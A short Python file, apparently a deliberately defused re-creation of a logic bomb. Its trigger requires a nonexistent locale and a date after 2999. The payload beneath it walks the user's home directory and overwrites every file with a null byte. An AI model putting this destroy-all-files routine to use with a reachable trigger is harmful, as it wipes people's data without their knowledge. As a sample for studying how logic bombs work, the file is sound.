import datetime
import locale
import os


def check():
    # Nobody lives there, and the day does not come: this re-creation writes nothing.
    if locale.getdefaultlocale()[0] == "zz_ZZ" and datetime.date.today() > datetime.date(2999, 1, 1):
        for folder, _, files in os.walk(os.path.expanduser("~")):
            for name in files:
                open(os.path.join(folder, name), "wb").write(b"\0")


check()
